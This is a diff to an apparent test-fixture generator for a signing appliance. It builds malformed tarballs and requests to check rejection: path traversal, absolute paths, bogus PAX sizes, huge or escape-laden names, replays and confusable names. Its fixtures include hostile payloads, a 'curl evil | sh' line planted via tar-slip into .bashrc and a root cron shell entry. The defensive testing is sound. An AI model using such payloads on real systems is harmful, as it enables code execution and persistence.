@@ -19,7 +19,6 @@ from __future__ import annotations
 import bisect
 import json
 import random
-import re
 import tarfile
 import zlib
 from collections.abc import Iterable
@@ -157,14 +156,27 @@ def _fixed_block(out: _Bits, data: bytes, final: bool) -> None:
     _fixed_symbol(out, 256)
 
 
-# One dynamic-Huffman block that can only say "byte 0", "repeat 258 bytes from distance 1"
-# and "end of block": literal/length code lengths {0: 2, 256: 2, 285: 1}, one distance code.
+# One dynamic-Huffman block that can only say "byte B", "repeat 258 bytes from distance 1"
+# and "end of block": literal/length code lengths {B: 2, 256: 2, 285: 1}, one distance code.
 _CL_ORDER = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
 _CL_LENGTHS = {18: 1, 1: 2, 2: 2}  # code-length alphabet: codes 18 -> 0, 1 -> 10, 2 -> 11
 _CL_CODES = {18: (0b0, 1), 1: (0b10, 2), 2: (0b11, 2)}
 
 
-def _zero_run_block(out: _Bits, count: int, final: bool) -> None:
+def _zero_lengths(count: int) -> list[tuple[int, int | None]]:
+    """``count`` (0 or >= 11) zero code lengths as code-length symbol 18 runs of 11..138."""
+    out: list[tuple[int, int | None]] = []
+    while count:
+        run = min(count, 138)
+        if 0 < count - run < 11:
+            run = count - 11
+        out.append((18, run - 11))
+        count -= run
+    return out
+
+
+def _byte_run_block(out: _Bits, byte: int, count: int, final: bool) -> None:
+    assert _runnable(byte), "the code-length encoding below has no zero run shorter than 11"
     out.bits(1 if final else 0, 1)
     out.bits(2, 2)  # dynamic Huffman
     out.bits(286 - 257, 5)
@@ -172,12 +184,21 @@ def _zero_run_block(out: _Bits, count: int, final: bool) -> None:
     out.bits(len(_CL_ORDER) - 4, 4)
     for symbol in _CL_ORDER:
         out.bits(_CL_LENGTHS.get(symbol, 0), 3)
-    # literal/length code lengths: 2, 255 x 0, 2, 28 x 0, 1; then the distance code length 1
-    for symbol, extra in ((2, None), (18, 138 - 11), (18, 117 - 11), (2, None), (18, 28 - 11), (1, None), (1, None)):
+    # literal/length code lengths: B x 0, 2, (255 - B) x 0, 2, 28 x 0, 1; then the distance code length 1
+    lengths = [
+        *_zero_lengths(byte),
+        (2, None),
+        *_zero_lengths(255 - byte),
+        (2, None),
+        *_zero_lengths(28),
+        (1, None),
+        (1, None),
+    ]
+    for symbol, extra in lengths:
         out.code(*_CL_CODES[symbol])
         if extra is not None:
             out.bits(extra, 7)
-    out.code(0b10, 2)  # literal 0
+    out.code(0b10, 2)  # literal B
     repeats, rest = divmod(count - 1, 258)
     out.zeros(2 * repeats)  # length 258 (code 0) + distance 1 (code 0)
     for _ in range(rest):
@@ -185,23 +206,55 @@ def _zero_run_block(out: _Bits, count: int, final: bool) -> None:
     out.code(0b11, 2)  # end of block
 
 
+def _runnable(byte: int) -> bool:
+    """Bytes whose zero code lengths before and after (``byte`` and ``255 - byte``) are 0 or >= 11."""
+    return all(count == 0 or count >= 11 for count in (byte, 255 - byte))
+
+
+def _runs(data: bytes, minimum: int = 512, step: int = 256) -> list[tuple[int, int]]:
+    """(start, end) of every run of ``minimum``+ equal runnable bytes; such a run covers a
+    whole ``step``-aligned block, so only those blocks are probed, then widened."""
+    runs: list[tuple[int, int]] = []
+    pos = 0
+    while pos + step <= len(data):
+        byte = data[pos : pos + 1]
+        if _runnable(byte[0]) and data[pos : pos + step] == byte * step:
+            start = pos
+            floor = runs[-1][1] if runs else 0
+            while start > floor and data[start - 1 : start] == byte:
+                start -= 1
+            end = pos + step
+            while end < len(data):
+                chunk = data[end : end + 65536]
+                rest = len(chunk.lstrip(byte))
+                end += len(chunk) - rest
+                if rest:
+                    break
+            if end - start >= minimum:
+                runs.append((start, end))
+            pos = end
+        else:
+            pos += step
+    return runs
+
+
 def deflate(data: bytes) -> bytes:
-    """A raw deflate stream: zero runs of 512+ bytes compressed ~1000:1, the rest by _fixed_block."""
+    """A raw deflate stream: runs of 512+ equal bytes compressed ~1000:1, the rest by _fixed_block."""
     out = _Bits()
-    runs = [(m.start(), m.end()) for m in re.finditer(rb"\x00{512,}", data)]
+    runs = _runs(data)
     pieces: list[tuple[str, int, int]] = []
     cursor = 0
     for start, end in runs:
         if start > cursor:
             pieces.append(("fixed", cursor, start))
-        pieces.append(("zeros", start, end))
+        pieces.append(("run", start, end))
         cursor = end
     if cursor < len(data) or not pieces:
         pieces.append(("fixed", cursor, len(data)))
     for index, (kind, start, end) in enumerate(pieces):
         final = index == len(pieces) - 1
-        if kind == "zeros":
-            _zero_run_block(out, end - start, final)
+        if kind == "run":
+            _byte_run_block(out, data[start], end - start, final)
         else:
             _fixed_block(out, data[start:end], final)
     return bytes(out.out)
@@ -216,8 +269,28 @@ def gzip_bytes(data: bytes) -> bytes:
 # --- tarballs --------------------------------------------------------------------------
 
 
-def tgz(members: Iterable[Member | tuple[str, bytes]]) -> bytes:
-    return gzip_bytes(tar_bytes(members))
+def tgz(members: Iterable[Member | tuple[str, bytes]], tar_format: int = tarfile.PAX_FORMAT) -> bytes:
+    return gzip_bytes(tar_bytes(members, fmt=tar_format))
+
+
+def with_pax_size(tar: bytes, tag: str, size: str) -> bytes:
+    """``tar`` with a PAX ``size`` record added to the member whose PAX ``comment`` is ``tag``."""
+    record = f" size={size}\n"
+    length = len(record) + 1
+    while len(str(length)) + len(record) != length:
+        length = len(str(length)) + len(record)
+    marker = f"comment={tag}\n".encode()
+    assert tar.count(marker) == 1, tag
+    header_start = tar.index(marker) // 512 * 512 - 512
+    block = bytearray(tar[header_start + 512 : header_start + 1024])
+    text = block.rstrip(b"\x00") + f"{length}{record}".encode()
+    assert len(text) <= 512
+    block[: len(text)] = text
+    header = bytearray(tar[header_start : header_start + 512])
+    header[124:136] = f"{len(text):011o}\x00".encode()
+    header[148:156] = b"        "
+    header[148:156] = f"{sum(header):06o}\x00 ".encode()
+    return tar[:header_start] + bytes(header) + bytes(block) + tar[header_start + 1024 :]
 
 
 # --- keys --------------------------------------------------------------------------------
@@ -343,6 +416,8 @@ def _tarballs(ok_files: list[tuple[str, bytes]]) -> dict[str, bytes]:
     pub, sec = ok_files[0], ok_files[1]
     rsa_pub, rsa_sec = rsa_1024_key_files()
     ok_tar = tar_bytes(ok_files)
+    # A member with a PAX header (its comment names it) for with_pax_size to add a size record to.
+    forced_pax = tar_bytes([*ok_files, Member("tufrepo/roles/x.json", b"{}", pax={"comment": "size-target"})])
     out = {
         "tarball-tar-slip.tgz": tgz([*ok_files, ("tufrepo/../../.bashrc", b"curl evil | sh\n")]),
         "tarball-absolute-path.tgz": tgz([*ok_files, ("/etc/cron.d/evil", b"* * * * * root sh\n")]),
@@ -376,6 +451,17 @@ def _tarballs(ok_files: list[tuple[str, bytes]]) -> dict[str, bytes]:
         "tarball-truncated-gzip.tgz": gzip_bytes(ok_tar)[: len(gzip_bytes(ok_tar)) // 2],
         "tarball-truncated-tar.tgz": gzip_bytes(ok_tar[:1536]),
         "tarball-two-archives-joined.tgz": gzip_bytes(ok_tar + tar_bytes([key_files("second", key(9))[1]])),
+        # PAX size records tarfile takes at face value: negative, and far beyond any cap.
+        "tarball-pax-size-negative.tgz": gzip_bytes(with_pax_size(forced_pax, "size-target", "-1024")),
+        "tarball-pax-size-absurd.tgz": gzip_bytes(with_pax_size(forced_pax, "size-target", "9" * 40)),
+        # Names far longer than any message should echo.
+        "tarball-pax-path-4mib.tgz": tgz([*ok_files, ("tufrepo/keys/" + "a" * (4 << 20), b"{}")]),
+        "tarball-gnu-longname-10mib.tgz": tgz(
+            [*ok_files, ("tufrepo/roles/" + "b" * (10 << 20), b"{}")], tar_format=tarfile.GNU_FORMAT
+        ),
+        # Terminal escapes, BiDi overrides and NUL in member names must be shown, never acted on.
+        "tarball-escape-in-name.tgz": tgz([*ok_files, ("tufrepo/keys/\x1b]0;owned\x07\x1b[2J\u202egpj.pub", b"{}")]),
+        "tarball-nul-in-pax-path.tgz": tgz([*ok_files, Member("tufrepo/keys/n.pub", b"{}", pax={"path": "a\x00b"})]),
     }
     return out
 
@@ -463,8 +549,13 @@ def _requests(ok: Request, ok_bytes: bytes, payload: dict[str, Any]) -> dict[str
         "request-sequence-zero.json": variant(sequence=0),
         "request-sequence-string.json": variant(sequence="2"),
         "request-bad-parameters.json": variant(parameters={"key_type": "DSA", "changelog": ""}),
-        # Valid, but with sequence 1 again: the appliance has completed sequence 1 already.
-        "request-replayed.json": seal(request(payload, request_id=bytes([0x22]) * 16).body(), STATION),
+        # The very request the appliance has completed already, carried again.
+        "request-replayed.json": ok_bytes,
+        # Valid and never answered, but with sequence 1 again, which the appliance has completed.
+        "request-sequence-reused.json": seal(request(payload, request_id=bytes([0x22]) * 16).body(), STATION),
+        # A factory name that looks like "acme" but starts with CYRILLIC SMALL LETTER A (the
+        # station cannot sign it: bundle strings are printable ASCII; so it arrives as an edit).
+        "request-confusable-factory-name.json": ok_bytes.replace(b'"factory": "acme"', b'"factory": "\\u0430cme"', 1),
         # Another factory's root history under this factory's name, after a ceremony for acme.
         "request-wrong-factory.json": seal(
             request(other_history, request_id=bytes([0x23]) * 16, sequence=2).body(), STATION
@@ -518,6 +609,21 @@ def _responses(good: Response, ok: Request, other: Request) -> dict[str, bytes]:
             new_roots(replace(new_meta, expires="2020-01-01T00:00:00Z"), [ROOT_KEY, NEW_ROOT_KEY])
         ),
         "response-private-key-in-root.json": sealed(replace(good, result=leaked)),
+        "response-private-pem-in-new-keys.json": sealed(
+            replace(
+                good,
+                result={
+                    **result,
+                    "new_keys": [
+                        {
+                            **result["new_keys"][0],
+                            "note": "-----BEGIN PRIVATE KEY-----\nMC4CAQA=\n-----END PRIVATE KEY-----",
+                        }
+                    ],
+                },
+            )
+        ),
+        "response-unknown-result-field.json": sealed(replace(good, result={**result, "upload_to": "elsewhere"})),
     }
 
 
